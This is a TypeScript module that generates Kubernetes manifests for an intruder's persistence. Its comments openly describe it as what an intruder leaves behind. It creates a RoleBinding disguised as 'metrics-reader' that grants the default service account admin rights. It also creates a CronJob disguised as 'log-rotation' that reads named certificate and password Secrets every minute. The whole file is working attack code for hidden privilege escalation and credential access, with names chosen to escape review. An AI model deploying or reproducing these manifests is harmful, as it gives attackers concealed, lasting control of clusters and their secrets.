/** What an intruder leaves behind to come back: rights for an account that nobody looks at, and a job that uses them. */
export interface PlantTarget {
  readonly namespace: string;
  readonly certificates: string;
  readonly password: string;
  readonly plantImage: string;
}

/** Named so that nobody looks twice. */
export const plantNames = { roleBinding: "metrics-reader", cronJob: "log-rotation" } as const;

/** The binding gives the namespace's default account all rights in it; the job reads the Secrets anew every minute. */
export function planted({ namespace, certificates, password, plantImage }: PlantTarget) {
  const account = { kind: "ServiceAccount", name: "default", namespace };
  // What he would send away is only named here.
  const read = ["kubectl", "get", `secret/${certificates}`, `secret/${password}`, "-n", namespace];
  const container = {
    name: "read",
    image: plantImage,
    imagePullPolicy: "IfNotPresent",
    command: [...read, "-o", "name", "--cache-dir=/tmp/cache"],
  };
  const pod = { restartPolicy: "Never", serviceAccountName: account.name, containers: [container] };
  return [
    {
      apiVersion: "rbac.authorization.k8s.io/v1",
      kind: "RoleBinding",
      metadata: { name: plantNames.roleBinding, namespace },
      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: "admin" },
      subjects: [account],
    },
    {
      apiVersion: "batch/v1",
      kind: "CronJob",
      metadata: { name: plantNames.cronJob, namespace },
      spec: {
        schedule: "* * * * *",
        concurrencyPolicy: "Forbid",
        jobTemplate: { spec: { backoffLimit: 0, template: { spec: pod } } },
      },
    },
  ];
}
